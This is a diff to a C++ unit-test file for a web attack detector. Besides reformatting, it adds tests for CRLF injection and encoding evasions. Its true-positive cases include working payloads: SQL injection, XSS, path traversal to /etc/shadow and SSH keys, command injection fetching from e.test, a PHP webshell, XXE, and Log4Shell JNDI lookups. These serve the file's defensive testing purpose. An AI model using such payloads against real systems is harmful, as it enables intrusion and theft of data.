@@ -27,11 +27,11 @@ protected:
   }
   static void TearDownTestSuite() { engine_.reset(); }
 
-  static Verdict inspect(const Req& r) {
+  static Verdict inspect(const Req &r) {
     std::vector<Header> hs;
     hs.push_back({"Host", "app.example.com"});
     hs.push_back({"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101"});
-    for (const auto& [n, v] : r.headers) {
+    for (const auto &[n, v] : r.headers) {
       hs.push_back({n, v});
     }
     RequestView v;
@@ -44,7 +44,9 @@ protected:
 
   static Req query(std::string q) { return Req{"GET", "/search?q=" + std::move(q), {}, ""}; }
   static Req form(std::string body) {
-    return Req{"POST", "/submit", {{"Content-Type", "application/x-www-form-urlencoded"}},
+    return Req{"POST",
+               "/submit",
+               {{"Content-Type", "application/x-www-form-urlencoded"}},
                std::move(body)};
   }
   static Req json(std::string body) {
@@ -54,29 +56,29 @@ protected:
     return Req{"GET", "/", {{std::move(name), std::move(value)}}, ""};
   }
 
-  static ::testing::AssertionResult detects(const Req& r, AttackClass cls) {
+  static ::testing::AssertionResult detects(const Req &r, AttackClass cls) {
     const Verdict v = inspect(r);
-    for (const auto& f : v.findings) {
+    for (const auto &f : v.findings) {
       if (f.cls == cls) {
         return ::testing::AssertionSuccess();
       }
     }
     auto res = ::testing::AssertionFailure() << r.method << " " << r.target << " " << r.body
                                              << ": no " << className(cls) << " finding";
-    for (const auto& f : v.findings) {
+    for (const auto &f : v.findings) {
       res << " [" << className(f.cls) << " " << f.ruleId << " " << f.part << "]";
     }
     return res;
   }
 
-  static ::testing::AssertionResult clean(const Req& r) {
+  static ::testing::AssertionResult clean(const Req &r) {
     const Verdict v = inspect(r);
     if (!v.attack()) {
       return ::testing::AssertionSuccess();
     }
-    auto res = ::testing::AssertionFailure() << r.method << " " << r.target << " " << r.body
-                                             << ": flagged";
-    for (const auto& f : v.findings) {
+    auto res = ::testing::AssertionFailure()
+               << r.method << " " << r.target << " " << r.body << ": flagged";
+    for (const auto &f : v.findings) {
       res << " [" << className(f.cls) << " " << f.ruleId << " " << f.part << " = " << f.value
           << "]";
     }
@@ -94,48 +96,52 @@ TEST_F(DetectorsTest, ClassNames) {
 }
 
 TEST_F(DetectorsTest, SqliTruePositives) {
-  for (const char* q : {"x%27%20OR%20%27z%27%3D%27z", "7%20or%202%3E1--", "9%27%29%20or%20(1=1)%23",
-                        "5%20UNION%20ALL%20SELECT%20username,password%20FROM%20accounts",
-                        "abc%22;DROP%20TABLE%20orders;--", "1%20AND%20SLEEP(3)",
-                        "1%27%20and%20extractvalue(1,concat(0x7e,version()))--%20",
-                        "admin%27--", "1/*!50000UnIoN*/+/*!50000SeLeCt*/+2,3",
-                        "x%27;WAITFOR%20DELAY%20%270:0:9%27--", "1%20having%201=1",
-                        "%27%20or%20username%20like%20%27%25adm", "1%27+OR+%271%27%3D%271"}) {
+  for (const char *q :
+       {"x%27%20OR%20%27z%27%3D%27z", "7%20or%202%3E1--", "9%27%29%20or%20(1=1)%23",
+        "5%20UNION%20ALL%20SELECT%20username,password%20FROM%20accounts",
+        "abc%22;DROP%20TABLE%20orders;--", "1%20AND%20SLEEP(3)",
+        "1%27%20and%20extractvalue(1,concat(0x7e,version()))--%20", "admin%27--",
+        "1/*!50000UnIoN*/+/*!50000SeLeCt*/+2,3", "x%27;WAITFOR%20DELAY%20%270:0:9%27--",
+        "1%20having%201=1", "%27%20or%20username%20like%20%27%25adm", "1%27+OR+%271%27%3D%271"}) {
     EXPECT_TRUE(detects(query(q), AttackClass::Sqli)) << q;
   }
-  EXPECT_TRUE(detects(json(R"({"id":"3' union select null,table_name from information_schema.tables-- "})"),
-                      AttackClass::Sqli));
+  EXPECT_TRUE(
+      detects(json(R"({"id":"3' union select null,table_name from information_schema.tables-- "})"),
+              AttackClass::Sqli));
   EXPECT_TRUE(detects(header("Referer", "https://x.test/?a=1' or '1'='1"), AttackClass::Sqli));
 }
 
 TEST_F(DetectorsTest, SqliFalsePositives) {
-  for (const char* q : {"Dunkin%27+Donuts", "select+a+gift+for+mom", "union+square+park+hotels",
-                        "drop+off+point+near+me", "1+or+2+bedrooms", "rock+%27n%27+roll",
-                        "where+is+my+order%3F", "it%27s+5%27o+clock", "update+on+delivery",
-                        "order+by+date", "cats+and+dogs", "tom+%26+jerry",
-                        "C%23+or+Java%3F", "O%27Connor+%26+Sons"}) {
+  for (const char *q :
+       {"Dunkin%27+Donuts", "select+a+gift+for+mom", "union+square+park+hotels",
+        "drop+off+point+near+me", "1+or+2+bedrooms", "rock+%27n%27+roll", "where+is+my+order%3F",
+        "it%27s+5%27o+clock", "update+on+delivery", "order+by+date", "cats+and+dogs",
+        "tom+%26+jerry", "C%23+or+Java%3F", "O%27Connor+%26+Sons"}) {
     EXPECT_TRUE(clean(query(q))) << q;
   }
-  EXPECT_TRUE(clean(json(R"({"comment":"We use `SELECT id FROM t WHERE x = ?` with bind params."})")));
+  EXPECT_TRUE(
+      clean(json(R"({"comment":"We use `SELECT id FROM t WHERE x = ?` with bind params."})")));
   EXPECT_TRUE(clean(form("password=Tr0ub4dor%26%273%21&user=sam")));
 }
 
 TEST_F(DetectorsTest, XssTruePositives) {
-  for (const char* q : {"%3Cscript%3Efetch(%27//e.test%27)%3C/script%3E", "%3Cimg%20src=x%20onerror=alert(7)%3E",
-                        "%3Csvg/onload=confirm%601%60%3E", "javascript:alert(document.domain)",
-                        "%22%3E%3Ciframe%20src=//e.test%3E", "%26lt;script%26gt;x()%26lt;/script%26gt;",
-                        "%22%20onfocus=%22alert(2)%22%20autofocus%20x=%22",
-                        "%3Ca%20href=%22jav%09ascript:prompt(3)%22%3Eclick%3C/a%3E",
-                        "%27;alert(String.fromCharCode(88))//", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}) {
+  for (const char *q :
+       {"%3Cscript%3Efetch(%27//e.test%27)%3C/script%3E", "%3Cimg%20src=x%20onerror=alert(7)%3E",
+        "%3Csvg/onload=confirm%601%60%3E", "javascript:alert(document.domain)",
+        "%22%3E%3Ciframe%20src=//e.test%3E", "%26lt;script%26gt;x()%26lt;/script%26gt;",
+        "%22%20onfocus=%22alert(2)%22%20autofocus%20x=%22",
+        "%3Ca%20href=%22jav%09ascript:prompt(3)%22%3Eclick%3C/a%3E",
+        "%27;alert(String.fromCharCode(88))//",
+        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}) {
     EXPECT_TRUE(detects(query(q), AttackClass::Xss)) << q;
   }
   EXPECT_TRUE(detects(json(R"({"bio":"<body onload=steal()>"})"), AttackClass::Xss));
 }
 
 TEST_F(DetectorsTest, XssFalsePositives) {
-  for (const char* q : {"3+%3C+5+and+7+%3E+2", "I+%3C3+cats", "a%3Cb+%26%26+b%3Cc", "%3Cb%3Ebold%3C/b%3E",
-                        "JavaScript:+The+Good+Parts", "online+onboarding+on+monday",
-                        "%3CSearchBox/%3E+component"}) {
+  for (const char *q : {"3+%3C+5+and+7+%3E+2", "I+%3C3+cats", "a%3Cb+%26%26+b%3Cc",
+                        "%3Cb%3Ebold%3C/b%3E", "JavaScript:+The+Good+Parts",
+                        "online+onboarding+on+monday", "%3CSearchBox/%3E+component"}) {
     EXPECT_TRUE(clean(query(q))) << q;
   }
   EXPECT_TRUE(clean(json(R"({"snippet":"Use <kbd>Ctrl</kbd> + <kbd>S</kbd> to save"})")));
@@ -143,13 +149,14 @@ TEST_F(DetectorsTest, XssFalsePositives) {
 
 TEST_F(DetectorsTest, PathTraversalTruePositives) {
   EXPECT_TRUE(detects(Req{"GET", "/etc/passwd", {}, ""}, AttackClass::PathTraversal));
-  EXPECT_TRUE(detects(Req{"GET", "/static/..%2f..%2f..%2fetc/shadow", {}, ""},
-                      AttackClass::PathTraversal));
+  EXPECT_TRUE(
+      detects(Req{"GET", "/static/..%2f..%2f..%2fetc/shadow", {}, ""}, AttackClass::PathTraversal));
   EXPECT_TRUE(detects(Req{"GET", "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/win.ini", {}, ""},
                       AttackClass::PathTraversal));
-  for (const char* q : {"..%5C..%5C..%5Cwindows%5Csystem32%5Cconfig%5Csam", "%252e%252e%252fetc%252fhosts",
-                        "/proc/self/environ", "....//....//etc/group", "%2e%2e/%2e%2e/home/u/.ssh/id_rsa",
-                        "..%u2215..%u2215boot.ini", "file:///etc/issue"}) {
+  for (const char *q :
+       {"..%5C..%5C..%5Cwindows%5Csystem32%5Cconfig%5Csam", "%252e%252e%252fetc%252fhosts",
+        "/proc/self/environ", "....//....//etc/group", "%2e%2e/%2e%2e/home/u/.ssh/id_rsa",
+        "..%u2215..%u2215boot.ini", "file:///etc/issue"}) {
     EXPECT_TRUE(detects(query(q), AttackClass::PathTraversal)) << q;
   }
 }
@@ -163,18 +170,19 @@ TEST_F(DetectorsTest, PathTraversalFalsePositives) {
 }
 
 TEST_F(DetectorsTest, RceTruePositives) {
-  for (const char* q : {"8.8.8.8%3Bcat%20/etc/hosts", "x%7C%7Cwhoami", "%60id%60", "a%24(uname%20-a)",
-                        "127.0.0.1%26%26ping%20-c%203%20evil.test", "%3Bc%27a%27t%24%7BIFS%7D/etc/group",
-                        "x%0Awget%20http://e.test/s.sh", "%7C%20powershell%20-nop%20-c%20iex",
-                        "()%20%7B%20:;%20%7D;%20/bin/bash%20-c%20id", "%3B/usr/bin/id"}) {
+  for (const char *q :
+       {"8.8.8.8%3Bcat%20/etc/hosts", "x%7C%7Cwhoami", "%60id%60", "a%24(uname%20-a)",
+        "127.0.0.1%26%26ping%20-c%203%20evil.test", "%3Bc%27a%27t%24%7BIFS%7D/etc/group",
+        "x%0Awget%20http://e.test/s.sh", "%7C%20powershell%20-nop%20-c%20iex",
+        "()%20%7B%20:;%20%7D;%20/bin/bash%20-c%20id", "%3B/usr/bin/id"}) {
     EXPECT_TRUE(detects(query(q), AttackClass::Rce)) << q;
   }
 }
 
 TEST_F(DetectorsTest, RceFalsePositives) {
-  for (const char* q : {"salt%3B+pepper%3B+cat+food", "ping+pong+table", "Tom+%26+Jerry+-+the+movie",
-                        "cat+videos", "fish+%7C+chips", "sleep+better+tips", "R%26D+budget",
-                        "find+my+phone"}) {
+  for (const char *q :
+       {"salt%3B+pepper%3B+cat+food", "ping+pong+table", "Tom+%26+Jerry+-+the+movie", "cat+videos",
+        "fish+%7C+chips", "sleep+better+tips", "R%26D+budget", "find+my+phone"}) {
     EXPECT_TRUE(clean(query(q))) << q;
   }
   EXPECT_TRUE(clean(json(
@@ -182,13 +190,15 @@ TEST_F(DetectorsTest, RceFalsePositives) {
 }
 
 TEST_F(DetectorsTest, CodeInjection) {
-  EXPECT_TRUE(detects(query("%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E"), AttackClass::CodeInjection));
+  EXPECT_TRUE(
+      detects(query("%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E"), AttackClass::CodeInjection));
   EXPECT_TRUE(detects(query("php://filter/convert.base64-encode/resource=index"),
                       AttackClass::CodeInjection));
   EXPECT_TRUE(detects(json(R"j({"x":"T(java.lang.Runtime).getRuntime().exec('id')"})j"),
                       AttackClass::CodeInjection));
   EXPECT_TRUE(detects(json(R"({"__proto__":{"isAdmin":true}})"), AttackClass::CodeInjection));
-  EXPECT_TRUE(detects(query("require('child_process').execSync('id')"), AttackClass::CodeInjection));
+  EXPECT_TRUE(
+      detects(query("require('child_process').execSync('id')"), AttackClass::CodeInjection));
   EXPECT_TRUE(detects(query("%3C!--%23exec%20cmd=%22ls%22--%3E"), AttackClass::CodeInjection));
   EXPECT_TRUE(clean(query("print+the+invoice")));
   EXPECT_TRUE(clean(json(R"({"note":"system (re)design meeting at 10"})")));
@@ -209,15 +219,20 @@ TEST_F(DetectorsTest, Ssrf) {
   EXPECT_TRUE(detects(query("http://[::1]/admin"), AttackClass::Ssrf));
   EXPECT_TRUE(detects(query("http://2130706433/"), AttackClass::Ssrf));
   EXPECT_TRUE(clean(query("https://www.example.org/blog?utm=1")));
-  EXPECT_TRUE(clean(Req{"GET", "/cb?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback", {}, ""}));
+  EXPECT_TRUE(
+      clean(Req{"GET", "/cb?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback", {}, ""}));
 }
 
 TEST_F(DetectorsTest, Xxe) {
-  const std::string xxe = R"(<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>)";
+  const std::string xxe =
+      R"(<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>)";
   EXPECT_TRUE(detects(Req{"POST", "/import", {{"Content-Type", "application/xml"}}, xxe},
                       AttackClass::Xxe));
-  EXPECT_TRUE(clean(Req{"POST", "/import", {{"Content-Type", "application/xml"}},
-                        R"(<?xml version="1.0"?><order id="7"><item>Fish &amp; chips</item></order>)"}));
+  EXPECT_TRUE(
+      clean(Req{"POST",
+                "/import",
+                {{"Content-Type", "application/xml"}},
+                R"(<?xml version="1.0"?><order id="7"><item>Fish &amp; chips</item></order>)"}));
 }
 
 TEST_F(DetectorsTest, Nosqli) {
@@ -239,16 +254,33 @@ TEST_F(DetectorsTest, Log4shell) {
   EXPECT_TRUE(detects(header("X-Api-Version", "${jndi:ldap://e.test/a}"), AttackClass::Log4shell));
   EXPECT_TRUE(detects(header("User-Agent", "${${lower:j}${upper:n}${::-d}i:rmi://e.test/x}"),
                       AttackClass::Log4shell));
-  EXPECT_TRUE(detects(query("%24%7B%24%7Benv:NOPE:-j%7Dndi:dns://e.test%7D"), AttackClass::Log4shell));
+  EXPECT_TRUE(
+      detects(query("%24%7B%24%7Benv:NOPE:-j%7Dndi:dns://e.test%7D"), AttackClass::Log4shell));
   EXPECT_TRUE(detects(header("Accept", "${jndi:ldap://e.test/a}"), AttackClass::Log4shell));
   EXPECT_TRUE(clean(query("%24%7Bprice%7D+template")));
 }
 
 TEST_F(DetectorsTest, Crlf) {
   EXPECT_TRUE(detects(query("en%0D%0ASet-Cookie:%20sid=evil"), AttackClass::Crlf));
-  EXPECT_TRUE(detects(Req{"GET", "/r?next=%0d%0aLocation:%20https://e.test", {}, ""},
-                      AttackClass::Crlf));
+  EXPECT_TRUE(
+      detects(Req{"GET", "/r?next=%0d%0aLocation:%20https://e.test", {}, ""}, AttackClass::Crlf));
   EXPECT_TRUE(clean(form("msg=line+one%0D%0Aline+two")));
+}
+
+TEST_F(DetectorsTest, CrlfInPathAndNames) {
+  EXPECT_TRUE(detects(Req{"GET", "/a%0d%0aX-Evil:%201", {}, ""}, AttackClass::Crlf));
+  EXPECT_TRUE(detects(Req{"GET", "/p?x%0d%0a=1", {}, ""}, AttackClass::Crlf));
+  EXPECT_TRUE(detects(Req{"GET", "/p?a=1%0Dinjected=2", {}, ""}, AttackClass::Crlf));
+}
+
+TEST_F(DetectorsTest, EncodingEvasions) {
+  EXPECT_TRUE(detects(query("%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-"), AttackClass::Xss));
+  EXPECT_TRUE(detects(query("http://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0/"),
+                      AttackClass::Ssrf));
+  EXPECT_TRUE(detects(query("0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd"), AttackClass::PathTraversal));
+  EXPECT_TRUE(detects(query("1%A0union%A0select%A0null"), AttackClass::Sqli));
+  EXPECT_TRUE(detects(query("un/**/ion+sel/**/ect+1,2"), AttackClass::Sqli));
+  EXPECT_TRUE(detects(query("%3Bc%24%40at%20/et%5Bc%5D/pas%24%40swd"), AttackClass::Rce));
 }
 
 TEST_F(DetectorsTest, Scanner) {
@@ -264,18 +296,26 @@ TEST_F(DetectorsTest, Scanner) {
 }
 
 TEST_F(DetectorsTest, Protocol) {
-  EXPECT_TRUE(detects(Req{"POST", "/f", {{"Content-Type", "application/x-www-form-urlencoded; charset=ibm500"}}, "a=b"},
+  EXPECT_TRUE(detects(Req{"POST",
+                          "/f",
+                          {{"Content-Type", "application/x-www-form-urlencoded; charset=ibm500"}},
+                          "a=b"},
                       AttackClass::Protocol));
   EXPECT_TRUE(detects(query("a%00b"), AttackClass::Protocol));
-  EXPECT_TRUE(clean(Req{"POST", "/f", {{"Content-Type", "application/json; charset=utf-8"}}, "{}"}));
+  EXPECT_TRUE(
+      clean(Req{"POST", "/f", {{"Content-Type", "application/json; charset=utf-8"}}, "{}"}));
 }
 
 TEST_F(DetectorsTest, BenignApiTraffic) {
-  EXPECT_TRUE(clean(json(R"({"firstName":"Seán","lastName":"O'Hara","notes":"Ring twice; it's the 2nd door -- thanks!"})")));
-  EXPECT_TRUE(clean(Req{"GET", "/api/v1/items?filter[status]=open&sort=-created_at&page[size]=20", {}, ""}));
-  EXPECT_TRUE(clean(header("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl")));
+  EXPECT_TRUE(clean(json(
+      R"({"firstName":"Seán","lastName":"O'Hara","notes":"Ring twice; it's the 2nd door -- thanks!"})")));
+  EXPECT_TRUE(clean(
+      Req{"GET", "/api/v1/items?filter[status]=open&sort=-created_at&page[size]=20", {}, ""}));
+  EXPECT_TRUE(
+      clean(header("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl")));
   EXPECT_TRUE(clean(header("Cookie", "_ga=GA1.1.12.34; theme=dark; cart=%5B%22sku-1%22%5D")));
-  EXPECT_TRUE(clean(Req{"GET", "/healthz", {{"User-Agent", "kube-probe/1.30"}, {"Host", "10.1.2.3:8080"}}, ""}));
+  EXPECT_TRUE(clean(
+      Req{"GET", "/healthz", {{"User-Agent", "kube-probe/1.30"}, {"Host", "10.1.2.3:8080"}}, ""}));
 }
 
 TEST_F(DetectorsTest, FindingsNameThePart) {
